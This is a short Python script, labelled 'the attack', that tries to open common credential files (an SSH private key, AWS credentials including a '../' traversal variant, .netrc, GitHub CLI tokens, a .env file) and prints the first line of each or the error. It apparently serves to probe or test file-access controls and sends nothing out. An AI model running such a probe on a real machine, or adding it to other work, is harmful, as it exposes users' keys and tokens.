# SPDX-License-Identifier: MIT
"""The attack: look where keys lie. Prints one `PATH<tab>OUTCOME` line per place. A real one has a longer list."""
import os

PLACES = ["~/.ssh/id_ed25519", "~/.aws/credentials", "~/.aws/../.aws/credentials", "~/.netrc", "~/.config/gh/hosts.yml",
          "~/work/.env", "~/work/report.txt"]

for place in PLACES:
    try:
        with open(os.path.expanduser(place), encoding="utf-8") as f:
            line = f.readline().strip()
        outcome = "read: " + line if line else "empty"
    except OSError as e:
        outcome = e.strerror
    print(f"{place}\t{outcome}")
